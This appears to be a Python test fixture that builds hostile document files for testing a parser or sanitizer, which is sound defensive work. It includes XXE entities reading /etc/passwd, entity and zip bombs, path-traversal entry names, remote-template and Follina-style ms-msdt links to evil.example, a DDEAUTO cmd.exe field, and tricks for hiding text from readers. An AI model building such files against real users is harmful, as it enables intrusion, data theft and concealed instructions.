# ruff: noqa: E501 - markup is read best on one line
"""Hostile files by name, built when they are asked for: what an attacker sends, and what must come of it.

Each case says what is expected: the codes of which one refuses the file; or texts that must be handed over as hidden,
texts that must be seen, and flags. Expectations come from APPNOTE (zip), ECMA-376, ISO 32000-1, RFC 5322 and 2045, and
from what Office shows; "SECRET" always stands for what a person would not see, "SEEN" for what they do.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial

import pypdf

from tests.documents.makers import OLE, lines, ole, pdf, zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
EXTRA = (
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
)
MAIN = {"word": "word/document.xml", "excel": "xl/workbook.xml", "powerpoint": "ppt/presentation.xml"}
SUFFIX = {"word": ".docx", "excel": ".xlsx", "powerpoint": ".pptx"}
_CT = "application/vnd.openxmlformats-officedocument."
Parts = dict[str, bytes]


@dataclass(frozen=True)
class Case:
    """A file and what must come of it. Without `codes` it must open."""

    build: Callable[[], bytes]
    name: str
    codes: tuple[str, ...] = ()
    hidden: tuple[str, ...] = ()
    seen: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()
    unflagged: bool = False


def rels(*entries: tuple[str, str, str]) -> bytes:
    """A relationships part of (id, type, target); a target that starts with "!" is external."""
    made = ""
    for key, kind, target in entries:
        full = kind if "//" in kind else f"{R}/{kind}"
        mode = ' TargetMode="External"' if target.startswith("!") else ""
        made += f'<Relationship Id="{key}" Type="{full}" Target="{target.lstrip("!")}"{mode}/>'
    return f'<Relationships xmlns="{RELS}">{made}</Relationships>'.encode()


def types(main: str, kind: str, more: str = "") -> bytes:
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{_CT}{kind}.main+xml"/>{more}</Types>'
    ).encode()


def word(body: str = "<w:p><w:r><w:t>SEEN</w:t></w:r></w:p>", more: Mapping[str, bytes] | None = None) -> Parts:
    return {
        "[Content_Types].xml": types(MAIN["word"], "wordprocessingml.document"),
        "_rels/.rels": rels(("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" {EXTRA}><w:body>{body}</w:body>'
        f"</w:document>".encode(),
        **(more or {}),
    }


def run(text: str, look: str = "") -> str:
    return f"<w:p><w:r><w:rPr>{look}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def excel(
    rows: str = '<row r="1"><c r="A1" t="inlineStr"><is><t>SEEN</t></is></c></row>',
    *,
    before: str = "",
    after: str = "",
    book: str = "",
    state: str = "",
    styles: str = "",
    more: Mapping[str, bytes] | None = None,
) -> Parts:
    links = [("r1", "worksheet", "worksheets/sheet1.xml")] + ([("r2", "styles", "styles.xml")] if styles else [])
    return {
        "[Content_Types].xml": types(MAIN["excel"], "spreadsheetml.sheet"),
        "_rels/.rels": rels(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="One" sheetId="1" r:id="r1" '
        f"{state}/></sheets>{book}</workbook>".encode(),
        "xl/_rels/workbook.xml.rels": rels(*links),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}" xmlns:r="{R}">{before}<sheetData>{rows}</sheetData>{after}'
        f"</worksheet>".encode(),
        **({"xl/styles.xml": f'<styleSheet xmlns="{S}">{styles}</styleSheet>'.encode()} if styles else {}),
        **(more or {}),
    }


def cell(text: str, where: str = "A1", attributes: str = "") -> str:
    return f'<c r="{where}" t="inlineStr" {attributes}><is><t>{text}</t></is></c>'


def styled(font: str = "", fill: str = '<fill><patternFill patternType="none"/></fill>', code: str = "") -> str:
    return (
        f'<numFmts><numFmt numFmtId="170" formatCode="{code or "General"}"/></numFmts><fonts><font/><font>{font}</font>'
        f'</fonts><fills><fill><patternFill patternType="none"/></fill>{fill}</fills><cellXfs><xf/>'
        f'<xf fontId="1" fillId="1" numFmtId="170"/></cellXfs>'
    )


def slide(shapes: str, attributes: str = "", more: Mapping[str, bytes] | None = None) -> Parts:
    return {
        "[Content_Types].xml": types(MAIN["powerpoint"], "presentationml.presentation"),
        "_rels/.rels": rels(("r1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst><p:sldId id="256" r:id="r1"/>'
        f'</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>'.encode(),
        "ppt/_rels/presentation.xml.rels": rels(("r1", "slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": f'<p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}" {attributes}><p:cSld><p:spTree>'
        f"{shapes}</p:spTree></p:cSld></p:sld>".encode(),
        **(more or {}),
    }


_BOX = '<a:off x="100" y="100"/><a:ext cx="3000000" cy="900000"/>'


def shape(text: str, *, look: str = "", fill: str = "", box: str = "", shown: str = "") -> str:
    frame = f"<a:xfrm>{box or _BOX}</a:xfrm>"
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="Box" {shown}/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>{frame}{fill}'
        f"</p:spPr><p:txBody><a:bodyPr/><a:p><a:r>{look}<a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
    )


def office(parts: Callable[[], Parts] | Parts) -> bytes:
    return zipped(parts() if callable(parts) else parts)


BASE: dict[str, Callable[[], Parts]] = {
    "word": word,
    "excel": excel,
    "powerpoint": lambda: slide(shape("SEEN")),
}


def with_part(kind: str, part: str, data: bytes | Callable[[bytes], bytes]) -> bytes:
    parts = BASE[kind]()
    parts[part] = data(parts.get(part, b"")) if callable(data) else data
    return zipped(parts)


CASES: dict[str, Case] = {}


def add(name: str, build: Callable[[], bytes], file: str, *codes: str, **expected: object) -> None:
    assert name not in CASES, name
    CASES[name] = Case(build, file, codes, **expected)  # type: ignore[arg-type]


# --- XML: DOCTYPE, entities, encodings, size ---------------------------------------------------------------------

_DTD = '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/passwd">]>'


def _before_root(part: bytes, lead: str, encoding: str, mark: bytes = b"") -> bytes:
    return mark + (lead + part.decode()).encode(encoding)


_LEADS = {
    "plain": (_DTD, "utf-8", b""),
    "after a declaration": ('<?xml version="1.0"?>' + _DTD, "utf-8", b""),
    "after a long comment": (f"<!--{'x' * 200_000}-->" + _DTD, "utf-8", b""),
    "after instructions": ("<?a b?>" * 3000 + _DTD, "utf-8", b""),
    "with a byte order mark": (_DTD, "utf-8-sig", b""),
    "in UTF-16": (_DTD, "utf-16", b""),
    "in UTF-16 without a mark": ('<?xml version="1.0" encoding="UTF-16"?>' + _DTD, "utf-16-be", b""),
    "in UTF-32": (_DTD, "utf-32", b""),
    "in UTF-7": ('<?xml version="1.0" encoding="UTF-7"?>' + _DTD.replace("<", "+ADw-"), "ascii", b""),
    "in EBCDIC": ('<?xml version="1.0" encoding="cp037"?>' + _DTD, "cp037", b""),
    "said to be Latin 1": ("<?xml version='1.0' encoding='iso-8859-1'?>" + _DTD, "latin-1", b""),
}
for _lead, (_text, _encoding, _mark) in _LEADS.items():
    for _kind, _part in MAIN.items():
        add(
            f"DOCTYPE {_lead} in {_kind}",
            partial(with_part, _kind, _part, partial(_before_root, lead=_text, encoding=_encoding, mark=_mark)),
            f"a{SUFFIX[_kind]}",
            "unsafe",
        )
for _part in (
    "[Content_Types].xml",
    "_rels/.rels",
    "word/styles.xml",
    "customXml/item1.xml",
    "docProps/core.xml",
    "word/fontTable.xml",
):
    add(
        f"DOCTYPE in {_part}",
        partial(with_part, "word", _part, lambda old: _DTD.encode() + (old or b"<x>&a;</x>")),
        "a.docx",
        "unsafe",
    )
_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
add("billion laughs", partial(with_part, "word", MAIN["word"], lambda old: _LAUGHS.encode() + old), "a.docx", "unsafe")
add(
    "XInclude is not followed",
    lambda: office(
        word(
            '<w:p><w:r><w:t>SEEN</w:t></w:r></w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        )
    ),
    "a.docx",
    seen=("SEEN",),
)
add("undeclared entity", lambda: office(word("<w:p><w:r><w:t>&evil;</w:t></w:r></w:p>")), "a.docx", "broken", "unsafe")
add("deep XML", lambda: office(word("<w:x>" * 100_000 + "</w:x>" * 100_000)), "a.docx", "too_large")
add(
    "deep tables",
    lambda: office(word("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000)),
    "a.docx",
    "too_large",
)
add("deep groups", lambda: office(slide("<p:grpSp>" * 9000 + "</p:grpSp>" * 9000)), "a.pptx", "too_large")
add(
    "many attributes",
    lambda: office(word("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")),
    "a.docx",
    "too_large",
)
add("a name of megabytes", lambda: office(word(f"<w:{'a' * 11_000_000}/>")), "a.docx", "too_large", "broken")
add("cut XML", partial(with_part, "word", MAIN["word"], lambda old: old[:-30]), "a.docx", "broken")
add("cut sheet", partial(with_part, "excel", "xl/worksheets/sheet1.xml", lambda old: old[:-30]), "a.xlsx", "broken")
add("no XML at all", partial(with_part, "word", MAIN["word"], b"\0\1\2\3" * 100), "a.docx", "broken", "unsafe")
add("empty main part", partial(with_part, "excel", MAIN["excel"], b""), "a.xlsx", "broken")
add("no main part", lambda: zipped({k: v for k, v in word().items() if k != MAIN["word"]}), "a.docx", "broken")
add(
    "main relationship to itself",
    partial(with_part, "word", "_rels/.rels", rels(("r1", "officeDocument", "_rels/.rels"))),
    "a.docx",
    "unsupported",
    "broken",
)
add(
    "a million relationships",
    partial(
        with_part,
        "word",
        "word/_rels/document.xml.rels",
        lambda _: rels(*[(f"r{n}", "image", f"m{n}.png") for n in range(100_000)]),
    ),
    "a.docx",
    "too_large",
)


# --- zip ---------------------------------------------------------------------------------------------------------


def entries(
    *more: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED, kind: str = "word"
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in BASE[kind]().items():
            archive.writestr(name, data)
        for info, data in more:
            archive.writestr(info, data, method)
    return out.getvalue()


def info(name: str, mode: int = 0) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.create_system, made.external_attr = 3, mode << 16
    return made


def renamed(old: str, new: bytes) -> bytes:
    """The archive with an entry's name changed in both places; the names are equally long."""
    return entries((old, b"x")).replace(old.encode(), new)


for _title, _bad in {
    "traversal": "../../evil.txt",
    "inner traversal": "word/../../evil.txt",
    "backslash traversal": "word\\..\\..\\evil.txt",
    "coded traversal": "word/%2e%2e/%2e%2e/evil.txt",
    "absolute": "/etc/passwd",
    "drive letter": "C:/Windows/evil.dll",
    "UNC": "\\\\server\\share\\evil.txt",
    "stream": "word/document.xml:evil",
}.items():
    add(f"entry name: {_title}", partial(entries, (_bad, b"x")), "a.docx", "unsafe")
add("entry name: NUL", partial(renamed, "word/aXb.xml", b"word/a\0b.xml"), "a.docx", "unsafe")
add("entry name: very long", partial(entries, ("word/" + "a" * 5000, b"x")), "a.docx", "too_large")
add("entry twice", partial(renamed, "word/documenX.xml", b"word/document\x2exml"[:17]), "a.docx", "unsafe", "broken")
add("entry twice by case", partial(entries, ("WORD/Document.XML", b"<x/>")), "a.docx", "unsafe")
add(
    "entry twice by Unicode",
    partial(entries, ("word/\u00e9.xml", b"<x/>"), ("word/e\u0301.xml", b"<y/>")),
    "a.docx",
    "unsafe",
)
add("symbolic link", partial(entries, (info("word/link.xml", 0o120777), b"/etc/passwd")), "a.docx", "unsafe")
add("device", partial(entries, (info("word/dev.xml", 0o020666), b"")), "a.docx", "unsafe")
add("pipe", partial(entries, (info("word/pipe.xml", 0o010666), b"")), "a.docx", "unsafe")
add("bzip2", partial(entries, ("word/b.xml", b"<x/>" * 50), method=zipfile.ZIP_BZIP2), "a.docx", "unsupported")
add("LZMA", partial(entries, ("word/b.xml", b"<x/>" * 50), method=zipfile.ZIP_LZMA), "a.docx", "unsupported")


def patched(*fields: tuple[int, int, str, int], target: bytes = b"word/document.xml") -> bytes:
    """The archive with header fields of one entry changed: (0 local or 1 central, offset, format, value)."""
    made = bytearray(entries())
    local = made.index(target) - 30
    central = made.index(target, made.index(b"PK\1\2")) - 46
    for place, offset, form, value in fields:
        struct.pack_into(form, made, (local, central)[place] + offset, value)
    return bytes(made)


add("encrypted entry", partial(patched, (0, 6, "<H", 1), (1, 8, "<H", 1)), "a.docx", "encrypted")
add("encrypted in one header only", partial(patched, (1, 8, "<H", 1)), "a.docx", "unsafe", "encrypted")
add("wrong CRC", partial(patched, (0, 14, "<I", 1), (1, 16, "<I", 1)), "a.docx", "broken")
add("CRC in one header only", partial(patched, (1, 16, "<I", 1)), "a.docx", "unsafe", "broken")
add("size in one header only", partial(patched, (1, 24, "<I", 10)), "a.docx", "unsafe", "broken")
add("size smaller than content", partial(patched, (0, 22, "<I", 10), (1, 24, "<I", 10)), "a.docx", "unsafe")
add("size larger than content", partial(patched, (0, 22, "<I", 99_999), (1, 24, "<I", 99_999)), "a.docx", "broken")
add("method in one header only", partial(patched, (0, 8, "<H", 0)), "a.docx", "unsafe")
add("unknown method", partial(patched, (0, 8, "<H", 99), (1, 10, "<H", 99)), "a.docx", "unsupported")
add("offset out of the file", partial(patched, (1, 42, "<I", 0x7FFFFFF0)), "a.docx", "broken")
add(
    "other name in the local header",
    lambda: entries().replace(b"word/document.xml", b"word/documenX.xml", 1),
    "a.docx",
    "unsafe",
    "broken",
)


def bomb(size: int, count: int = 1) -> bytes:
    out, piece = io.BytesIO(entries()), b"\0" * (1 << 20)  # in pieces: it is made inside of the limits, too
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(count):
            with archive.open(f"word/media/b{number}.bin", "w") as entry:
                for _ in range(size // len(piece)):
                    entry.write(piece)
    return out.getvalue()


add("bomb in one part", partial(bomb, 200 << 20), "a.docx", "too_large")
add("bomb in many parts", partial(bomb, 8 << 20, 30), "a.docx", "too_large")


def overlapping() -> bytes:
    """Two names for the same bytes (a bomb without nesting shares one kernel between all its entries)."""
    made = bytearray(entries(("word/a.bin", b"x" * 500), ("word/b.bin", b"x" * 500)))
    central = made.index(b"PK\1\2")
    first, second = (made.index(n, central) - 46 for n in (b"word/a.bin", b"word/b.bin"))
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


add("overlapping entries", overlapping, "a.docx", "unsafe", "broken")
add("lying about inflated size", lambda: lying(), "a.docx", "unsafe", "too_large")


def lying() -> bytes:
    made = bytearray(entries(("word/media/b.bin", b"\0" * (64 << 20))))
    target = b"word/media/b.bin"
    struct.pack_into("<I", made, made.index(target) - 30 + 22, 100)
    struct.pack_into("<I", made, made.index(target, made.index(b"PK\1\2")) - 46 + 24, 100)
    return bytes(made)


add("too many entries", lambda: entries(*((f"word/{n}", b"") for n in range(21_000))), "a.docx", "too_large")
add("a directory of a million entries", lambda: million(), "a.docx", "too_large", "broken")


def million() -> bytes:
    record = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = record * 400_000
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 400_000, 400_000, len(directory), 31)
    where = struct.pack("<4sIQI", b"PK\6\7", 0, 31 + len(directory), 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    return local + directory + wide + where + end


add(
    "nested zip in a part is not unpacked",
    partial(entries, ("word/embeddings/x.zip", zipped({"b": b"\0" * 30_000_000}))),
    "a.docx",
    seen=("SEEN",),
)
add("trailing data", lambda: entries() + b"MZ" + b"x" * 500, "a.docx", "unsafe")
add("two directories", lambda: entries() + zipped({"evil.txt": b"x"})[-100:], "a.docx", "unsafe", "broken")
add("another archive behind", lambda: entries() + entries(kind="excel"), "a.docx", "unsafe", "broken")
add("a script before the archive", lambda: b"#!/bin/sh\necho evil\n" + entries(), "a.docx", "broken", "unsafe")
add("a program before the archive", lambda: b"MZ" + bytes(500) + entries(), "a.docx", "unsupported", "broken", "unsafe")
add(
    "a picture before the archive",
    lambda: b"GIF89a" + bytes(50) + entries(),
    "a.docx",
    "unsupported",
    "broken",
    "unsafe",
)
add("PDF and zip at once", lambda: pdf([lines("SEEN")]) + entries(), "a.pdf", "unsafe")
add("zip that begins with a PDF", lambda: zip_of_pdf(), "a.docx", "unsafe")


def zip_of_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", pdf([lines("SEEN")]))
        for name, data in word().items():
            archive.writestr(name, data)
    return out.getvalue()


for _share in (0.1, 0.5, 0.9, 0.99):
    for _kind in MAIN:
        add(
            f"{_kind} cut at {_share}",
            partial(lambda k, s: (c := entries(kind=k))[: int(len(c) * s)], _kind, _share),
            f"a{SUFFIX[_kind]}",
            "broken",
        )
for _name in ("a.docx", "a.xlsx", "a.pptx", "a.pdf", "a.txt", "a.eml", "a.csv", "a.msg"):
    add(f"empty {_name}", lambda: b"", _name, "empty")
for _stream, _name, _code in (
    ("WordDocument", "a.doc", "legacy"),
    ("Workbook", "a.xls", "legacy"),
    ("PowerPoint Document", "a.ppt", "legacy"),
    ("__properties_version1.0", "a.msg", "legacy"),
    ("EncryptedPackage", "a.docx", "encrypted"),
    ("EncryptionInfo", "a.xlsx", "encrypted"),
    ("WordDocument", "a.docx", "legacy"),
    ("Something", "a.pptx", "legacy"),
):
    add(f"OLE {_stream} as {_name}", partial(ole, _stream), _name, _code)
add("OLE header only", lambda: OLE, "a.doc", "legacy", "broken")
add("RTF as docx", lambda: b"{\\rtf1 x}", "a.docx", "unsupported", "broken")
add("HTML as docx", lambda: b"<html><body>x</body></html>", "a.docx", "unsupported", "broken")
add("text as xlsx", lambda: b"a,b\n1,2\n", "a.xlsx", "broken", "unsupported")
add("random bytes", lambda: zlib.compress(bytes(range(256)) * 99) * 40, "a.docx", "broken", "unsupported")
add("docx under the name of a pdf", lambda: entries(), "a.pdf", seen=("SEEN",), flags=("wrong-suffix",))
add(
    "binary workbook",
    lambda: zipped(
        {
            **excel(),
            "[Content_Types].xml": types(MAIN["excel"], "x").replace(
                f"{_CT}x.main+xml".encode(), b"application/vnd.ms-excel.sheet.binary.macroEnabled.main"
            ),
        }
    ),
    "a.xlsb",
    "unsupported",
)

# --- Word: what is hidden, what is flagged -------------------------------------------------------------------------


def styles_part(inner: str) -> dict[str, bytes]:
    return {
        "word/styles.xml": f'<w:styles xmlns:w="{W}">{inner}</w:styles>'.encode(),
        "word/_rels/document.xml.rels": rels(("s", "styles", "styles.xml")),
    }


def box(text: str, frame: str) -> str:
    return (
        f"<w:p><w:r><w:drawing><wp:anchor>{frame}<a:graphic><a:graphicData><wps:wsp><wps:txbx><w:txbxContent>"
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic>"
        f"</wp:anchor></w:drawing></w:r></w:p>"
    )


_SIZE = '<wp:extent cx="900000" cy="900000"/>'
_WORD_HIDDEN = {
    "vanish": run("SECRET", "<w:vanish/>"),
    "webHidden": run("SECRET", "<w:webHidden/>"),
    "white": run("SECRET", '<w:color w:val="FFFFFF"/>'),
    "near white": run("SECRET", '<w:color w:val="F3F3F3"/>'),
    "white by theme": run("SECRET", '<w:color w:val="000000" w:themeColor="background1"/>'),
    "yellow on yellow": run("SECRET", '<w:color w:val="FFFF00"/><w:highlight w:val="yellow"/>'),
    "blue on blue shading": run("SECRET", '<w:color w:val="0000FE"/><w:shd w:fill="0000FF"/>'),
    "black on black cell": '<w:tbl><w:tr><w:tc><w:tcPr><w:shd w:fill="000000"/></w:tcPr>'
    + run("SECRET", '<w:color w:val="000000"/>')
    + "</w:tc></w:tr></w:tbl>",
    "tiny": run("SECRET", '<w:sz w:val="2"/>'),
    "transparent": run("SECRET", "<w14:textFill><w14:noFill/></w14:textFill>"),
    "hidden row": "<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc>" + run("SECRET") + "</w:tc></w:tr></w:tbl>",
    "far indent": '<w:p><w:pPr><w:ind w:left="-30000"/></w:pPr><w:r><w:t>SECRET</w:t></w:r></w:p>',
    "far frame": '<w:p><w:pPr><w:framePr w:x="40000" w:y="1"/></w:pPr><w:r><w:t>SECRET</w:t></w:r></w:p>',
    "deletion": '<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>SECRET</w:delText></w:r></w:del></w:p>',
    "moved away": '<w:p><w:moveFrom w:id="1" w:author="A"><w:r><w:t>SECRET</w:t></w:r></w:moveFrom></w:p>',
    "field code": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE SECRET</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "simple field code": '<w:p><w:fldSimple w:instr="QUOTE SECRET"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    "fallback": "<w:p><w:r><mc:AlternateContent><mc:Choice><w:t>x</w:t></mc:Choice><mc:Fallback><w:t>SECRET</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>",
    "shape of no size": box("SECRET", '<wp:extent cx="0" cy="0"/><wp:docPr id="1" name="x"/>'),
    "hidden shape": box("SECRET", _SIZE + '<wp:docPr id="1" name="x" hidden="1"/>'),
    "shape off the page": box(
        "SECRET", '<wp:positionH relativeFrom="page"><wp:posOffset>-9000000</wp:posOffset></wp:positionH>' + _SIZE
    ),
    "VML off the page": '<w:p><w:r><w:pict><v:shape style="position:absolute;margin-left:-9999pt;width:10pt;height:9pt"><v:textbox><w:txbxContent>'
    + run("SECRET")
    + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    "alternative text": "<w:p><w:r><w:drawing><wp:inline>"
    + _SIZE
    + '<wp:docPr id="1" name="x" descr="SECRET"/></wp:inline></w:drawing></w:r></w:p>',
}
for _title, _body in _WORD_HIDDEN.items():
    add(
        f"word hidden: {_title}",
        partial(office, word(run("SEEN") + _body)),
        "a.docx",
        hidden=("SECRET",),
        seen=("SEEN",),
    )
for _title, _styles, _run in (
    (
        "style",
        '<w:style w:type="character" w:styleId="q"><w:rPr><w:vanish/></w:rPr></w:style>',
        run("SECRET", '<w:rStyle w:val="q"/>'),
    ),
    (
        "based on",
        '<w:style w:type="paragraph" w:styleId="b"><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="q"><w:basedOn w:val="b"/></w:style>',
        '<w:p><w:pPr><w:pStyle w:val="q"/></w:pPr><w:r><w:t>SECRET</w:t></w:r></w:p>',
    ),
    (
        "defaults",
        "<w:docDefaults><w:rPrDefault><w:rPr><w:vanish/></w:rPr></w:rPrDefault></w:docDefaults>",
        run("SECRET"),
    ),
    (
        "cyclic styles",
        '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style>',
        '<w:p><w:pPr><w:pStyle w:val="b"/></w:pPr><w:r><w:t>SECRET</w:t></w:r></w:p>',
    ),
):
    add(f"word hidden by {_title}", partial(office, word(_run, styles_part(_styles))), "a.docx", hidden=("SECRET",))


def word_part(part: str, kind: str, inner: str) -> dict[str, bytes]:
    return {f"word/{part}.xml": inner.encode(), "word/_rels/document.xml.rels": rels(("x", kind, f"{part}.xml"))}


for _part, _kind, _inner in (
    ("header1", "header", f'<w:hdr xmlns:w="{W}">{run("SECRET")}</w:hdr>'),
    ("footer1", "footer", f'<w:ftr xmlns:w="{W}">{run("SECRET")}</w:ftr>'),
    (
        "comments",
        "comments",
        f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="A">{run("SECRET")}</w:comment></w:comments>',
    ),
    (
        "glossary/document",
        "glossaryDocument",
        f'<w:glossaryDocument xmlns:w="{W}">{run("SECRET")}</w:glossaryDocument>',
    ),
    (
        "settings",
        "settings",
        f'<w:settings xmlns:w="{W}"><w:docVars><w:docVar w:name="x" w:val="SECRET"/></w:docVars></w:settings>',
    ),
):
    add(
        f"word hidden in {_part}",
        partial(office, word(more=word_part(_part, _kind, _inner))),
        "a.docx",
        hidden=("SECRET",),
        seen=("SEEN",),
    )
add(
    "word hidden in custom XML",
    partial(office, word(more={"customXml/item1.xml": b"<x><y>SECRET</y></x>"})),
    "a.docx",
    hidden=("SECRET",),
    seen=("SEEN",),
)
add(
    "word hidden in a part that nothing refers to",
    partial(office, word(more={"word/orphan.xml": run("SECRET").replace("<w:p>", f'<w:p xmlns:w="{W}">').encode()})),
    "a.docx",
    hidden=("SECRET",),
)
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata"
for _kind in ("core", "custom"):
    add(
        f"hidden in {_kind} properties",
        partial(
            office,
            word(
                more={
                    "_rels/.rels": rels(
                        ("r1", "officeDocument", "word/document.xml"),
                        ("r2", f"{_PACKAGE}/{_kind}-properties", f"docProps/{_kind}.xml"),
                    ),
                    f"docProps/{_kind}.xml": b'<p xmlns:d="http://purl.org/dc/elements/1.1/"><d:subject>SECRET</d:subject><property name="a"><v>SECRET</v></property></p>',
                }
            ),
        ),
        "a.docx",
        hidden=("SECRET",),
    )
for _title, _body in {
    "tracked insertion": '<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>SEEN</w:t></w:r></w:ins></w:p>',
    "moved here": '<w:p><w:moveTo w:id="1" w:author="A"><w:r><w:t>SEEN</w:t></w:r></w:moveTo></w:p>',
    "white on black": run("SEEN", '<w:color w:val="FFFFFF"/><w:shd w:fill="000000"/>'),
    "vanish off": run("SEEN", '<w:vanish w:val="0"/>'),
    "small print": run("SEEN", '<w:sz w:val="12"/>'),
    "light gray": run("SEEN", '<w:color w:val="A6A6A6"/>'),
    "black": run("SEEN", '<w:color w:val="000000" w:themeColor="text1"/>'),
    "yellow highlight": run("SEEN", '<w:highlight w:val="yellow"/>'),
    "hidden paragraph mark": "<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>SEEN</w:t></w:r></w:p>",
    "content control": "<w:sdt><w:sdtContent>" + run("SEEN") + "</w:sdtContent></w:sdt>",
    "text box": box("SEEN", _SIZE),
    "hanging indent": '<w:p><w:pPr><w:ind w:left="720" w:hanging="360"/></w:pPr><w:r><w:t>SEEN</w:t></w:r></w:p>',
}.items():
    add(f"word control: {_title}", partial(office, word(_body)), "a.docx", seen=("SEEN",), unflagged=True)
for _kind, _target, _flag in (
    ("attachedTemplate", "!http://evil.example/t.dotm", "remote-template"),
    ("image", "!http://evil.example/x.png", "remote-images"),
    ("oleObject", "!file:///\\\\evil\\share\\x.xls", "external-relationships"),
    ("frame", "!http://evil.example/", "external-relationships"),
    ("subDocument", "!http://evil.example/s.docx", "external-relationships"),
    ("hyperlink", "!ms-msdt:/id PCWDiagnostic", "external-relationships"),
    ("hyperlink", "!javascript:alert(1)", "external-relationships"),
    ("hyperlink", "!\\\\evil\\share", "external-relationships"),
    ("oleObject", "embeddings/oleObject1.bin", "ole-objects"),
    ("control", "activeX/activeX1.xml", "activex"),
    ("vbaProject", "vbaProject.bin", "macros"),
    ("aFChunk", "chunk.html", "imported-content"),
    ("package", "embeddings/x.xlsx", "embedded-files"),
):
    add(
        f"word flag: {_kind} {_target}",
        partial(office, word(more={"word/_rels/document.xml.rels": rels(("x", _kind, _target))})),
        "a.docx",
        seen=("SEEN",),
        flags=(_flag,),
    )
add(
    "word control: hyperlink",
    partial(
        office,
        word(
            more={
                "word/_rels/document.xml.rels": rels(
                    ("x", "hyperlink", "!https://example.com/?a=b"),
                    ("y", "hyperlink", "!mailto:a@example.com"),
                    ("z", "hyperlink", "!other.docx"),
                )
            }
        ),
    ),
    "a.docx",
    seen=("SEEN",),
    unflagged=True,
)
for _code, _flag in (
    ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "dde"),
    ("DDE excel x", "dde"),
    ("INCLUDEPICTURE http://evil.example/x", "external-content"),
    ("INCLUDETEXT \\\\\\\\evil\\\\x", "external-content"),
):
    add(
        f"word flag: field {_code[:12]}",
